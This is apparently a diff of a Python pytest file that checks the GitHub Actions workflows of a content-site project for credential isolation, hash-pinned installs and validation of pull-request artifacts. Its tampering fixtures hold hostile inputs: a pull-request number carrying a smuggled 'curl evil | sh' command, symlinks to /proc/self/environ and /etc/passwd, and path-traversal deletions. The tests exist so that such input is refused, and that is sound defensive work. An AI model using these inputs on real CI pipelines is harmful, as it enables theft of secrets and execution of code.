@@ -8,10 +8,13 @@ of every tier, also checked against the reusable workflows they call (inputs, se
 
 from __future__ import annotations
 
+import importlib.util
 import os
 import re
+import shutil
 import subprocess
 import sys
+import tomllib
 from pathlib import Path
 
 import pytest
@@ -240,17 +243,39 @@ def test_every_checkout_keeps_no_credentials():
         assert step.get("with", {}).get("persist-credentials") is False, (name, job_id)
 
 
-def test_only_the_public_site_leaves_the_runner():
+# Every artifact a job uploads: (workflow, job, name) -> its paths. Only the public site and data go to
+# an artifact in this (public) repository; a protected site only in the repository that publishes it
+# (whose readers are its readers), for the one day its deploy job needs it.
+UPLOADS = {
+    ("wwidw-controle.yml", "review", "wwidw-inhoud"): ["${{ runner.temp }}/wwidw-inhoud/"],
+    ("wwidw-controle.yml", "review", "voorbeeld-openbaar"): ["site/openbaar"],
+    ("wwidw-review-reactie.yml", "review", "wwidw-reactie"): [
+        "${{ runner.temp }}/wwidw-reactie/review.md",
+        "${{ runner.temp }}/wwidw-reactie/pr-nummer",
+    ],
+    ("wwidw-formulier.yml", "schrijf", "wwidw-formulier"): ["${{ runner.temp }}/formulier/"],
+    ("wwidw-publiceren-beschermd.yml", "bouw", "beschermde-site"): [
+        "site/${{ steps.publiek.outputs.map }}"
+    ],
+}
+
+
+def test_what_leaves_the_runner():
+    uploads = {}
     for name, job_id, step in steps():
-        uses, paths = step.get("uses", ""), str(step.get("with", {}).get("path", "")).split()
+        uses, given = step.get("uses", ""), step.get("with", {})
         if uses.startswith("actions/upload-pages-artifact@"):
-            assert paths == ["site/openbaar"], (name, job_id)
-        if uses.startswith("actions/upload-artifact@"):
-            assert all(p == "site/openbaar" or p.startswith("rapport/") for p in paths), (
-                name,
-                job_id,
-                paths,
+            assert (name, job_id, given["path"]) == (
+                "wwidw-publiceren-openbaar.yml",
+                "bouw",
+                "site/openbaar",
             )
+        if uses.startswith("actions/upload-artifact@"):
+            uploads[name, job_id, given["name"]] = str(given["path"]).strip().splitlines()
+            assert given["if-no-files-found"] == "error" and given["retention-days"] <= 7
+    assert uploads == UPLOADS
+    protected = workflow("wwidw-publiceren-beschermd.yml")["jobs"]["bouw"]["steps"][-1]
+    assert protected["with"]["retention-days"] == 1
     pages = [
         (n, j, job)
         for n, j, job, _ in jobs()
@@ -260,52 +285,216 @@ def test_only_the_public_site_leaves_the_runner():
     assert pages[0][2]["environment"]["name"] == "github-pages"
 
 
+# Item 12: the engine is installed from hash-pinned runtime requirements only, never `make install`
+# (52 range-pinned packages with the test tools), and never in a job that holds write access or the
+# deploy key.
+
+ENGINE_DIR = "${{ inputs.engine-ref != '' && '.wwidw-engine' || '.' }}"
+INSTALLS = {  # every job that installs the engine (the step "Install the engine")
+    ("wwidw-controle.yml", "review"),
+    ("wwidw-review-reactie.yml", "review"),
+    ("wwidw-formulier.yml", "schrijf"),
+    ("wwidw-publiceren-openbaar.yml", "bouw"),
+    ("wwidw-publiceren-beschermd.yml", "bouw"),
+}
+
+
 def install_script(name: str, job_id: str) -> str:
     job = workflow(name)["jobs"][job_id]
     return next(s for s in job["steps"] if s.get("name") == "Install the engine")["run"]
 
 
-def test_the_engine_is_installed_alike_everywhere():
-    """`make install` in this repository; in a source repository the engine from git at the pinned
-    commit (pip) and Pagefind by the engine's own package-lock.json (npm ci)."""
-    scripts = {
-        "wwidw-controle.yml": install_script("wwidw-controle.yml", "review"),
-        "wwidw-publiceren-openbaar.yml": install_script("wwidw-publiceren-openbaar.yml", "bouw"),
-        "wwidw-publiceren-beschermd.yml": install_script(
-            "wwidw-publiceren-beschermd.yml", "beschermd"
-        ),
+def test_the_engine_is_installed_alike_everywhere_from_hash_pinned_requirements():
+    """The runtime dependencies with --require-hashes and --no-deps from the engine's requirements/,
+    then the engine itself from its checkout with no index: this repository's own checkout, or in a
+    source repository the engine repository at the pinned commit."""
+    found = {
+        (name, job_id) for name, job_id, step in steps() if step.get("name") == "Install the engine"
     }
+    assert found == INSTALLS
+    scripts = {key: install_script(*key) for key in INSTALLS}
     assert len(set(scripts.values())) == 1
-    script = scripts["wwidw-controle.yml"]
-    assert "make install # the engine repository itself" in script
-    assert '"wwidw @ git+https://github.com/$ENGINE_REPOSITORY@$ENGINE_REF"' in script
-    assert "^[0-9a-f]{40}$" in script and "npm ci --prefix .wwidw-engine" in script
-    form = install_script("wwidw-formulier.yml", "pull-request")
-    assert "make python" in form and "make install" not in form  # `wwidw form` needs no Pagefind
-    assert '"wwidw @ git+https://github.com/$ENGINE_REPOSITORY@$ENGINE_REF"' in form
-    for name in scripts:
-        lock = next(
-            s
-            for s in workflow(name)["jobs"][next(iter(workflow(name)["jobs"]))]["steps"]
-            if s.get("with", {}).get("path") == ".wwidw-engine"
+    script = scripts["wwidw-controle.yml", "review"]
+    joined = re.sub(r"\\\n\s*", "", script)  # continued lines as one
+    pip_lines = [" ".join(line.split()) for line in joined.splitlines() if "pip " in line]
+    assert pip_lines == [
+        '.venv/bin/pip install --quiet --require-hashes --no-deps -r "$ENGINE_DIR/requirements/'
+        'build.txt" -r "$ENGINE_DIR/requirements/build-system.txt"',
+        '.venv/bin/pip install --quiet --no-deps --no-build-isolation --no-index "./$ENGINE_DIR"',
+        ".venv/bin/pip check",
+    ]
+    for name, job_id in INSTALLS:
+        job = workflow(name)["jobs"][job_id]
+        install = next(s for s in job["steps"] if s.get("name") == "Install the engine")
+        assert install["env"]["ENGINE_DIR"] == ENGINE_DIR, name
+        pin, engine = (
+            next(s for s in job["steps"] if s.get("name", "").startswith(prefix))
+            for prefix in ("Check the engine pin", "Check out the engine at its pinned commit")
         )
-        assert "inputs.engine-ref != ''" in lock["if"]
-        assert lock["with"]["ref"] == "${{ inputs.engine-ref }}"
-        assert lock["with"]["sparse-checkout"].split() == ["package.json", "package-lock.json"]
+        assert job["steps"].index(pin) < job["steps"].index(engine) < job["steps"].index(install)
+        assert "^[0-9a-f]{40}$" in pin["run"] and "inputs.engine-ref != ''" in pin["if"]
+        assert engine["if"] == pin["if"] and engine["with"]["path"] == ".wwidw-engine"
+        assert engine["with"]["ref"] == "${{ inputs.engine-ref }}"
+        assert engine["with"]["repository"] == "${{ inputs.engine-repository }}"
+
+
+def test_no_job_that_can_write_or_deploy_installs_anything():
+    """Write permissions, an environment (the deploy key) or an issue's write token: such a job runs no
+    pip, npm, make or engine, checks out no engine and sets up no Python. And no job installs the
+    test extras or range-pinned packages: only controle's Tests job runs make (`make test`)."""
+    # A command that installs or runs Python, npm or make, or anything from a venv (the engine).
+    installing = re.compile(
+        r"^\s*(pip3?|pipx|npm|npx|make|python3?|uv|poetry)\s|\.venv/|/bin/pip", re.M
+    )
+    for name, job_id, job, data in jobs():
+        if "uses" in job:
+            continue
+        permissions = job.get("permissions", data["permissions"])
+        holds = any(level == "write" for level in permissions.values()) or "environment" in job
+        scripts = [s.get("run", "") for s in job["steps"]]
+        for script in scripts:
+            assert "make install" not in script and "make python" not in script, (name, job_id)
+            assert ".[test]" not in script and "git+https://" not in script, (name, job_id)
+            for line in script.splitlines():
+                if re.search(r"\bpip install\b", line):
+                    assert "--no-deps" in line, (name, job_id, line)
+        if holds:
+            assert not [s for s in scripts if installing.search(s)], (name, job_id)
+            assert not [
+                s
+                for s in job["steps"]
+                if s.get("uses", "").startswith("actions/setup-python@")
+                or s.get("with", {}).get("path") == ".wwidw-engine"
+            ], (name, job_id)
+    makes = {(n, j) for n, j, s in steps() if re.search(r"\bmake\b", s.get("run", ""))}
+    assert makes == {("controle.yml", "tests")}
+    assert "make test" in workflow("controle.yml")["jobs"]["tests"]["steps"][-1]["run"]
+
+
+def test_the_deploy_key_and_the_write_tokens_are_in_jobs_of_their_own():
+    """Each job that can write or deploy gets what it writes from an earlier job as an artifact."""
+    key = [(n, j) for n, j, job, _ in jobs() if "secrets.BESCHERMD_SSH_KEY" in yaml.safe_dump(job)]
+    assert key == [("wwidw-publiceren-beschermd.yml", "publiceer")]
+    writers = {
+        ("wwidw-publiceren-beschermd.yml", "publiceer"): ("bouw", "beschermde-site"),
+        ("wwidw-formulier.yml", "pull-request"): ("schrijf", "wwidw-formulier"),
+        ("wwidw-review-reactie.yml", "reactie"): ("review", "wwidw-reactie"),
+    }
+    for (name, job_id), (builder, artifact) in writers.items():
+        job = workflow(name)["jobs"][job_id]
+        assert job["needs"] == builder
+        download = next(
+            s for s in job["steps"] if s.get("uses", "").startswith("actions/download-artifact@")
+        )
+        assert download["with"]["name"] == artifact and "run-id" not in download["with"]
+        assert "secrets." not in yaml.safe_dump(workflow(name)["jobs"][builder]).replace(
+            "secrets.sources-token", ""
+        ).replace("secrets.BRONNEN_TOKEN", "")
+
+
+def names(requirements: Path) -> dict[str, dict]:
+    """A pip-compile output: {normalised name: {"version", "hashes", "via"}}."""
+    entries: dict[str, dict] = {}
+    current = None
+    for line in requirements.read_text(encoding="utf-8").splitlines():
+        if match := re.fullmatch(r"([A-Za-z0-9._-]+)==(\S+) \\", line):
+            current = entries.setdefault(
+                re.sub(r"[-_.]+", "-", match.group(1)).lower(),
+                {"version": match.group(2), "hashes": [], "via": []},
+            )
+        elif match := re.fullmatch(r"    --hash=sha256:([0-9a-f]{64})( \\)?", line):
+            current["hashes"].append(match.group(1))
+        elif match := re.fullmatch(r"    # via (.+)|    #   (.+)", line):
+            current["via"].append((match.group(1) or match.group(2)).strip())
+        else:
+            assert line == "" or line.startswith("#") or line == "    # via", line
+    return entries
+
+
+def closure_of(entries: dict[str, dict], roots: set[str]) -> set[str]:
+    """The entries reachable from ``roots`` by the annotations (each names what needs it)."""
+    needed_by = {name: set(entry["via"]) for name, entry in entries.items()}
+    reached, changed = set(roots), True
+    while changed:
+        more = {n for n, via in needed_by.items() if via & reached} - reached
+        reached |= more
+        changed = bool(more)
+    return reached
+
+
+def test_the_runtime_requirements_are_exactly_pyprojects_and_every_one_is_hash_pinned():
+    from packaging.requirements import Requirement
+
+    pyproject = tomllib.loads((REPO / "pyproject.toml").read_text(encoding="utf-8"))
+    build = names(REPO / "requirements" / "build.txt")
+    backend = names(REPO / "requirements" / "build-system.txt")
+    for entries in (build, backend):
+        assert entries and all(e["hashes"] and e["via"] for e in entries.values())
+    for file, entries, wanted, root in (
+        (
+            "build.txt",
+            build,
+            pyproject["project"]["dependencies"],
+            "wwidw (pyproject.toml)",
+        ),
+        (
+            "build-system.txt",
+            backend,
+            pyproject["build-system"]["requires"],
+            "wwidw (pyproject.toml::build-system.requires)",
+        ),
+    ):
+        requirements = {
+            re.sub(r"[-_.]+", "-", Requirement(r).name).lower(): Requirement(r) for r in wanted
+        }
+        direct = {n for n, e in entries.items() if root in e["via"]}
+        assert direct == set(requirements), file  # exactly pyproject's, none of the test extras
+        for name in direct:
+            assert requirements[name].specifier.contains(entries[name]["version"]), (file, name)
+        # Nothing else: every other entry is needed by one of them (or by build.txt's pins).
+        assert closure_of(entries, {root, "-c requirements/build.txt"}) >= set(entries), file
+    for name in set(build) & set(backend):
+        assert build[name] == backend[name] | {"via": build[name]["via"]}, name
+    # The test tools never reach a job that publishes, writes or comments.
+    extras = {
+        re.sub(r"[-_.]+", "-", Requirement(r).name).lower()
+        for r in pyproject["project"]["optional-dependencies"]["test"]
+    }
+    assert not extras & (set(build) - {"setuptools"})
+
+
+def test_the_requirements_can_be_regenerated():
+    makefile = (REPO / "Makefile").read_text(encoding="utf-8")
+    target = makefile[makefile.index("\nrequirements: ") :].split("\n\n")[0]
+    for part in (
+        "--generate-hashes",
+        "--output-file requirements/build.txt pyproject.toml",
+        "--only-build-deps",
+        "--output-file requirements/build-system.txt",
+        "--constraint requirements/build.txt",
+    ):
+        assert part in target, part
+    assert "requirements" in makefile.split("\n.PHONY:")[1].split("\n\n")[0]
 
 
 def test_private_sources_are_read_through_a_credential_helper_only():
     helpers = [
-        s for _, _, s in steps() if "credential.https://github.com.helper" in s.get("run", "")
+        (n, j) for n, j, s in steps() if "credential.https://github.com.helper" in s.get("run", "")
     ]
-    assert len(helpers) == 3  # checks, form, protected publishing
-    for step in helpers:
-        script = step["run"]
-        assert "$SOURCES_TOKEN" in script and "password=$SOURCES_TOKEN" in script
-        assert (
-            'echo "$SOURCES_TOKEN"' not in script and "> " not in script
-        )  # never printed or stored
+    assert (
+        helpers
+        == [  # checks, comment (its review job), form (its read-only job), protected build
+            ("wwidw-controle.yml", "review"),
+            ("wwidw-formulier.yml", "schrijf"),
+            ("wwidw-publiceren-beschermd.yml", "bouw"),
+            ("wwidw-review-reactie.yml", "review"),
+        ]
+    )
     for name, job_id, step in steps():
+        script = step.get("run", "")
+        if "credential.https://github.com.helper" in script:
+            assert "$SOURCES_TOKEN" in script and "password=$SOURCES_TOKEN" in script
+            assert 'echo "$SOURCES_TOKEN"' not in script and "> " not in script  # never stored
         if "SOURCES_TOKEN" in step.get("env", {}):
             assert step["env"]["SOURCES_TOKEN"].startswith("${{ secrets."), (name, job_id)
 
@@ -345,6 +534,7 @@ def test_the_pull_request_workflow_validates_builds_reviews_and_previews():
         "sources": "bronnen.yml",
         "audience": "alle",
         "review-source": "openbaar",
+        "content-folder": "content",
     }
     assert "make test" in controle["jobs"]["tests"]["steps"][-1]["run"]
     job = workflow("wwidw-controle.yml")["jobs"]["review"]
@@ -352,40 +542,397 @@ def test_the_pull_request_workflow_validates_builds_reviews_and_previews():
     for command in (
         '.venv/bin/wwidw validate "$FLAG" "$SOURCES" --format github',
         '.venv/bin/wwidw build "$FLAG" "$SOURCES" --audience "$AUDIENCE" --out site',
-        'args=("$FLAG" "$SOURCES" --base "origin/$BASE_REF" --out rapport/review.md)',
+        'args=("$FLAG" "$SOURCES" --base "origin/$BASE_REF" --out "$RUNNER_TEMP/review.md")',
         'args+=(--source "$REVIEW_SOURCE")',
         '.venv/bin/wwidw review "${args[@]}"',
         '>> "$GITHUB_STEP_SUMMARY"',
-        "make install",
     ):
         assert command in script, command
     checkout = next(s for s in job["steps"] if s.get("uses", "").startswith("actions/checkout@"))
     assert checkout["with"]["fetch-depth"] == 0
     review = next(s for s in job["steps"] if "wwidw review" in s.get("run", ""))
     assert review["env"]["BASE_REF"] == "${{ github.base_ref }}"
-    assert review["env"]["PR_NUMBER"] == "${{ github.event.pull_request.number }}"
     uploads = {
         s["with"]["name"]: s
         for s in job["steps"]
         if s.get("uses", "").startswith("actions/upload-artifact@")
     }
-    assert set(uploads) == {"wwidw-review", "voorbeeld-openbaar"}
+    assert set(uploads) == {"wwidw-inhoud", "voorbeeld-openbaar"}
     assert "hashFiles('site/openbaar/index.html')" in uploads["voorbeeld-openbaar"]["if"]
     secrets = workflow("wwidw-controle.yml")["on"]["workflow_call"]["secrets"]
     assert secrets == {"sources-token": secrets["sources-token"]}
     assert secrets["sources-token"]["required"] is False
 
 
-def test_the_comment_workflow_updates_one_marked_comment_and_runs_nothing_from_the_pr():
+# Item 11: the comment is made by trusted code (the default branch's engine) from the pull request's
+# content, never from what the pull request's code wrote.
+
+
+def test_the_check_hands_over_only_the_pull_requests_content():
+    job = workflow("wwidw-controle.yml")["jobs"]["review"]
+    names_ = [s.get("name", s.get("uses", "")) for s in job["steps"]]
+    pack = next(s for s in job["steps"] if " pack " in s.get("run", ""))
+    upload = next(s for s in job["steps"] if s.get("with", {}).get("name") == "wwidw-inhoud")
+    assert (
+        '"$ENGINE_DIR/.github/scripts/pr_content.py" pack --base "origin/$BASE_REF"' in pack["run"]
+    )
+    assert '--out "$RUNNER_TEMP/wwidw-inhoud"' in pack["run"]
+    assert pack["env"]["PR_NUMBER"] == "${{ github.event.pull_request.number }}"
+    assert pack["env"]["CONTENT_FOLDER"] == "${{ inputs.content-folder }}"
+    # Packed and uploaded before the engine is installed or run: nothing the engine writes goes in.
+    assert names_.index(upload["name"]) < names_.index("Install the engine")
+    review = next(s for s in job["steps"] if "wwidw review" in s.get("run", ""))
+    assert "rapport" not in review["run"] and "review.md" not in yaml.safe_dump(upload)
+
+
+def test_the_comment_is_made_by_the_default_branchs_engine_from_the_content_only():
     reactie = workflow("review-reactie.yml")
     assert reactie["on"]["workflow_run"]["workflows"] == [workflow("controle.yml")["name"]]
-    job = workflow("wwidw-review-reactie.yml")["jobs"]["reactie"]
-    assert "github.event.workflow_run.event == 'pull_request'" in job["if"]
-    assert not [s for s in job["steps"] if "run" in s]
-    assert not [s for s in job["steps"] if s.get("uses", "").startswith("actions/checkout@")]
-    script = next(s for s in job["steps"] if "script" in s.get("with", {}))["with"]["script"]
+    assert reactie["jobs"]["reactie"]["with"] == {
+        "sources": "bronnen.yml",
+        "review-source": "openbaar",
+        "content-folder": "content",
+    }
+    reusable = workflow("wwidw-review-reactie.yml")
+    text = (REPO / ".github/workflows/wwidw-review-reactie.yml").read_text(encoding="utf-8")
+    for untrusted in (
+        "head_branch",
+        "head_repository",
+        "pull_requests",
+        "github.head_ref",
+        "refs/pull",
+    ):
+        assert untrusted not in text, untrusted
+    review = reusable["jobs"]["review"]
+    assert "github.event.workflow_run.event == 'pull_request'" in review["if"]
+    checkouts = [s for s in review["steps"] if s.get("uses", "").startswith("actions/checkout@")]
+    assert [s["with"] for s in checkouts] == [
+        {"persist-credentials": False, "ref": "${{ github.event.repository.default_branch }}"},
+        {
+            "persist-credentials": False,
+            "repository": "${{ inputs.engine-repository }}",
+            "ref": "${{ inputs.engine-ref }}",
+            "path": ".wwidw-engine",
+        },
+    ]
+    order = [s.get("name", s.get("uses")) for s in review["steps"]]
+    download = next(s for s in review["steps"] if s.get("id") == "download")
+    assert download["with"]["name"] == "wwidw-inhoud"
+    assert download["with"]["run-id"] == "${{ github.event.workflow_run.id }}"
+    apply = next(s for s in review["steps"] if s.get("id") == "apply")
+    assert '"$ENGINE_DIR/.github/scripts/pr_content.py" apply' in apply["run"]
+    made = next(s for s in review["steps"] if "wwidw review" in s.get("run", ""))
+    assert '--base HEAD --out "$RUNNER_TEMP/wwidw-reactie/review.md"' in made["run"]
+    # Installed (from the default branch) before the content is unpacked, reviewed after.
+    assert order.index("Install the engine") < order.index(download["name"])
+    assert order.index(download["name"]) < order.index(apply["name"]) < order.index(made["name"])
+    assert review["permissions"] == {"actions": "read", "contents": "read"}
+    post = reusable["jobs"]["reactie"]
+    assert post["permissions"] == {"pull-requests": "write"} and post["needs"] == "review"
+    assert not [s for s in post["steps"] if "run" in s]
+    script = next(s for s in post["steps"] if "script" in s.get("with", {}))["with"]["script"]
     assert "<!-- wwidw-review -->" in script and "/^[1-9][0-9]{0,9}$/" in script
     assert "pr.head.sha !== process.env.HEAD_SHA" in script and "updateComment" in script
+
+
+# The content handed from the check to the comment, with real git and the real script and engine.
+
+SCRIPT = REPO / ".github" / "scripts" / "pr_content.py"
+
+
+def git(cwd: Path, *args: str) -> str:
+    identity = ["-c", "user.name=Test", "-c", "user.email=test@example.org"]
+    return subprocess.run(
+        ["git", "-C", str(cwd), *identity, *args], check=True, capture_output=True, text=True
+    ).stdout
+
+
+def pr_content(*args: str | Path, cwd: Path | None = None) -> subprocess.CompletedProcess:
+    return subprocess.run(
+        [sys.executable, str(SCRIPT), *map(str, args)],
+        cwd=cwd,
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+
+
+@pytest.fixture(scope="module")
+def pull_request(tmp_path_factory) -> Path:
+    """A repository with this repository's public source in content/ and some engine code on main,
+    and a pull request branch `voorstel` that changes, adds, renames and deletes descriptions, and also
+    changes the engine's code, a workflow and adds a symlink where a description would be."""
+    origin = tmp_path_factory.mktemp("pr") / "origin"
+    shutil.copytree(REPO / "content", origin / "content")
+    (origin / "wwidw_build").mkdir()
+    (origin / "wwidw_build" / "review.py").write_text("REPORT = 'echt'\n", encoding="utf-8")
+    git(origin.parent, "init", "-q", "-b", "main", str(origin))
+    git(origin, "add", "-A")
+    git(origin, "commit", "-qm", "main")
+    git(origin, "switch", "-qc", "voorstel")
+    praktijken = origin / "content" / "praktijken"
+    with (praktijken / "taalcafe-bibliotheek-oost.md").open("a", encoding="utf-8") as text:
+        text.write("\nEen zin erbij.\n")
+    shutil.copy(praktijken / "wijkconcierge-de-horst.md", praktijken / "wijkconcierge-de-linde.md")
+    git(origin, "rm", "-q", "content/praktijken/geveltuinen-bloemenbuurt.md")
+    git(origin, "mv", "content/archetypen/klushuizen.md", "content/archetypen/klushuizen-2.md")
+    (origin / "wwidw_build" / "review.py").write_text("REPORT = 'wat ik wil'\n", encoding="utf-8")
+    (origin / ".github" / "workflows").mkdir(parents=True)
+    (origin / ".github" / "workflows" / "x.yml").write_text("on: push\n", encoding="utf-8")
+    (praktijken / "link.md").symlink_to("/etc/passwd")
+    git(origin, "add", "-A")
+    git(origin, "commit", "-qm", "voorstel")
+    return origin
+
+
+@pytest.fixture(scope="module")
+def packed(pull_request, tmp_path_factory) -> Path:
+    """What the check uploads: `pack` in a clone of the pull request, as controle runs it."""
+    folder = tmp_path_factory.mktemp("check")
+    git(folder, "clone", "-q", "-b", "voorstel", str(pull_request), "pr")
+    artifact = folder / "wwidw-inhoud"
+    result = pr_content(
+        "pack",
+        "--base",
+        "origin/main",
+        "--content-folder",
+        "content",
+        "--pr-number",
+        "7",
+        "--out",
+        artifact,
+        cwd=folder / "pr" / "content",  # any folder in the repository
+    )
+    assert result.returncode == 0, result.stderr
+    return artifact
+
+
+def default_branch(pull_request: Path, tmp_path: Path) -> Path:
+    git(tmp_path, "clone", "-q", "-b", "main", str(pull_request), "basis")
+    return tmp_path / "basis"
+
+
+def tree(folder: Path) -> dict[str, str]:
+    return {
+        p.relative_to(folder).as_posix(): (
+            "link" if p.is_symlink() else "dir" if p.is_dir() else "file"
+        )
+        for p in sorted(folder.rglob("*"))
+    }
+
+
+def test_the_check_packs_only_changed_content(packed):
+    assert tree(packed) == {
+        "bestanden": "dir",
+        "bestanden/content": "dir",
+        "bestanden/content/archetypen": "dir",
+        "bestanden/content/archetypen/klushuizen-2.md": "file",
+        "bestanden/content/praktijken": "dir",
+        "bestanden/content/praktijken/taalcafe-bibliotheek-oost.md": "file",
+        "bestanden/content/praktijken/wijkconcierge-de-linde.md": "file",
+        "pr-nummer": "file",
+        "verwijderd": "file",
+    }  # no engine code, no workflow, no symlink
+    assert (packed / "verwijderd").read_text(encoding="utf-8").splitlines() == [
+        "content/archetypen/klushuizen.md",
+        "content/praktijken/geveltuinen-bloemenbuurt.md",
+    ]
+    assert (packed / "pr-nummer").read_text(encoding="utf-8") == "7\n"
+
+
+def test_the_default_branchs_engine_reviews_the_pull_requests_content(
+    packed, pull_request, tmp_path
+):
+    """The comment workflow's steps for real: apply onto the default branch, then `wwidw review
+    --base HEAD` of the engine under test. The report is the pull request's changes, renames too."""
+    basis = default_branch(pull_request, tmp_path)
+    report = tmp_path / "wwidw-reactie"
+    result = pr_content(
+        "apply",
+        "--artifact",
+        packed,
+        "--content-folder",
+        "content",
+        "--checkout",
+        basis,
+        "--report",
+        report,
+    )
+    assert result.returncode == 0, result.stderr
+    assert (report / "pr-nummer").read_text(encoding="utf-8") == "7\n"
+    assert (basis / "wwidw_build" / "review.py").read_text(encoding="utf-8") == "REPORT = 'echt'\n"
+    assert not (basis / ".github").exists() and not (basis / "content/praktijken/link.md").exists()
+    made = subprocess.run(
+        [
+            tool("wwidw"),
+            "review",
+            "--content",
+            "content",
+            "--base",
+            "HEAD",
+            "--out",
+            report / "review.md",
+        ],
+        cwd=basis,
+        capture_output=True,
+        text=True,
+        timeout=300,
+    )
+    assert made.returncode == 0, made.stderr
+    text = (report / "review.md").read_text(encoding="utf-8")
+    assert "1 toegevoegd, 1 gewijzigd, 1 hernoemd, 1 verwijderd" in text
+    for row in (
+        "| ➕ toegevoegd | praktijk | `wijkconcierge-de-linde` |",
+        "| ✏️ gewijzigd | praktijk | `taalcafe-bibliotheek-oost` |",
+        "| 🔀 hernoemd | archetype | `klushuizen-2` |",
+        "| 🗑️ verwijderd | praktijk | `geveltuinen-bloemenbuurt` |",
+    ):
+        assert row in text, row
+
+
+def tampered(packed: Path, tmp_path: Path, change) -> Path:
+    artifact = tmp_path / "wwidw-inhoud"
+    shutil.copytree(packed, artifact, symlinks=True)
+    change(artifact)
+    return artifact
+
+
+def put(relative: str, data: bytes = b"---\nid: x\n---\n"):
+    def change(artifact: Path) -> None:
+        path = artifact / relative
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_bytes(data)
+
+    return change
+
+
+def link(relative: str, target: str):
+    def change(artifact: Path) -> None:
+        (artifact / relative).parent.mkdir(parents=True, exist_ok=True)
+        (artifact / relative).symlink_to(target)
+
+    return change
+
+
+def text(relative: str, value: str):
+    return lambda artifact: (artifact / relative).write_text(value, encoding="utf-8")
+
+
+# What a pull request's own code could upload instead of its content: each refuses the whole artifact.
+TAMPERED = {
+    "engine code": put("bestanden/wwidw_build/review/markdown.py", b"print('pwned')\n"),
+    "a workflow": put("bestanden/.github/workflows/x.yml"),
+    "a file beside the content": put("bestanden/content/x.md"),
+    "a hidden description": put("bestanden/content/praktijken/.x.md"),
+    "a dotted folder": put("bestanden/content/praktijken/.git/config"),
+    "a name with a space": put("bestanden/content/praktijken/a b.md"),
+    "another registry file": put("bestanden/content/taxonomie/../organisaties.yml/x"),
+    "a report instead of content": put("review.md", b"Alles is goedgekeurd.\n"),
+    "a symlink to a secret": link("bestanden/content/praktijken/x.md", "/proc/self/environ"),
+    "a symlinked folder": link("bestanden/content/bijlagen", "/etc"),
+    "a fifo": lambda a: os.mkfifo(a / "bestanden/content/praktijken/x.md"),
+    "a symlink as pr-nummer": lambda a: (
+        (a / "pr-nummer").unlink(),
+        (a / "pr-nummer").symlink_to("/etc/hostname"),
+    ),
+    "a command as pr-nummer": text("pr-nummer", "7; curl evil | sh\n"),
+    "a zero pr-nummer": text("pr-nummer", "0\n"),
+    "a huge pr-nummer": text("pr-nummer", "12345678901\n"),
+    "a deletion outside the content": text("verwijderd", "wwidw_build/review.py\n"),
+    "a deletion climbing out": text("verwijderd", "content/praktijken/../../pyproject.toml\n"),
+    "changed and deleted at once": text(
+        "verwijderd", "content/praktijken/wijkconcierge-de-linde.md\n"
+    ),
+    "a file over the size limit": put(
+        "bestanden/content/bijlagen/groot.pdf", b"0" * (16 * 1024 * 1024 + 1)
+    ),
+}
+
+
+@pytest.mark.parametrize("case", TAMPERED)
+def test_a_tampered_artifact_is_refused_whole(case, packed, pull_request, tmp_path):
+    basis = default_branch(pull_request, tmp_path)
+    artifact = tampered(packed, tmp_path, TAMPERED[case])
+    report = tmp_path / "wwidw-reactie"
+    result = pr_content(
+        "apply",
+        "--artifact",
+        artifact,
+        "--content-folder",
+        "content",
+        "--checkout",
+        basis,
+        "--report",
+        report,
+    )
+    assert result.returncode == 1 and "::error::apply: refused:" in result.stderr, result.stderr
+    assert "Traceback" not in result.stderr
+    assert git(basis, "status", "--porcelain", "--ignored") == ""  # nothing written or deleted
+    assert not report.exists()
+
+
+def test_a_pull_request_without_content_changes_still_gets_its_comment(pull_request, tmp_path):
+    """An artifact leaves out empty folders: only pr-nummer arrives when no content changed."""
+    basis = default_branch(pull_request, tmp_path)
+    artifact = tmp_path / "wwidw-inhoud"
+    artifact.mkdir()
+    (artifact / "pr-nummer").write_text("12\n", encoding="utf-8")
+    result = pr_content(
+        "apply", "--artifact", artifact, "--content-folder", "content", "--checkout", basis,
+        "--report", tmp_path / "r",
+    )  # fmt: skip
+    assert result.returncode == 0, result.stderr
+    assert (tmp_path / "r" / "pr-nummer").read_text(encoding="utf-8") == "12\n"
+    assert git(basis, "status", "--porcelain") == ""
+
+
+def test_nothing_is_written_through_a_symlink_in_the_checkout(packed, pull_request, tmp_path):
+    basis = default_branch(pull_request, tmp_path)
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    shutil.rmtree(basis / "content" / "praktijken")
+    (basis / "content" / "praktijken").symlink_to(elsewhere)
+    result = pr_content(
+        "apply",
+        "--artifact",
+        packed,
+        "--content-folder",
+        "content",
+        "--checkout",
+        basis,
+        "--report",
+        tmp_path / "r",
+    )
+    assert result.returncode == 1 and "not a plain folder" in result.stderr
+    assert list(elsewhere.iterdir()) == []
+
+
+@pytest.mark.parametrize(
+    "path, prefix, expected",
+    [
+        ("praktijken/a.md", "", True),
+        ("praktijken/sub/a.md", "", True),
+        ("bijlagen/plan.pdf", "", True),
+        ("organisaties.yml", "", True),
+        ("taxonomie/themas.yml", "", True),
+        ("content/archetypen/a.md", "content", True),
+        ("archetypen/a.md", "content", False),
+        ("praktijken", "", False),
+        ("README.md", "", False),
+        ("bronnen.yml", "", False),
+        (".github/workflows/controle.yml", "", False),
+        ("praktijken/../wwidw_build/x.py", "", False),
+        ("praktijken//a.md", "", False),
+        ("/etc/passwd", "", False),
+        ("taxonomie/sub/themas.yml", "", False),
+        ("contentx/praktijken/a.md", "content", False),
+    ],
+)
+def test_the_allow_list_of_content_paths(path, prefix, expected):
+    spec = importlib.util.spec_from_file_location("pr_content", SCRIPT)
+    module = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(module)
+    assert module.allowed(path, prefix) is expected
 
 
 def test_deployments_never_overlap_or_get_cut_off():
@@ -394,21 +941,93 @@ def test_deployments_never_overlap_or_get_cut_off():
     assert publiceren["concurrency"] == {"group": "publiceren", "cancel-in-progress": False}
 
 
+# Item 13: publishing runs from main only, also when started by hand on another branch.
+
+PUBLISHING = ["wwidw-publiceren-openbaar.yml", "wwidw-publiceren-beschermd.yml"]
+ON_MAIN = "github.ref == 'refs/heads/main'"
+
+
+def needs(job: dict) -> list[str]:
+    value = job.get("needs", [])
+    return [value] if isinstance(value, str) else value
+
+
+@pytest.mark.parametrize("name", PUBLISHING)
+def test_every_publishing_job_runs_from_main_only(name, tmp_path):
+    """A first job fails on any other ref; every other job needs it and is itself limited to main."""
+    all_jobs = workflow(name)["jobs"]
+    guard = all_jobs["alleen-main"]
